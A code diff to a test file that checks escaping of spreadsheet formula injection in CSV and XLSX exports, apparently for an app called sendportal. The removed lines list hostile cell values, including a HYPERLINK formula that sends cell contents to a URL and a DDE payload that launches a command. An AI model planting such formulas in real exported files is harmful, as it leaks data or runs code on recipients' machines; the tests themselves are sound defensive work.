@@ -16,6 +16,8 @@ from sendportal.exports import FormulaEscapedField
 from sendportal.exports import escape_formula
 from sendportal.exports import unescape_formula
 from tests.events.factories import BookingFactory
+from tests.hostile import FORMULA_TEXT
+from tests.hostile import TRIGGERS
 
 
 @pytest.mark.parametrize(
@@ -64,23 +66,7 @@ def test_formula_escaped_field_escapes_exported_csv_and_xlsx_cells():
     assert reloaded["Text"] == ["'=cmd", "plain"]
 
 
-HOSTILE = [
-    '=HYPERLINK("http://x?"&A1)',
-    "+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "'=1+1",
-    "''",
-    "'",
-    "'tis",
-    "plain words",
-    "",
-]
-TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+HOSTILE = [*FORMULA_TEXT, "''", "'", "'tis", ""]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
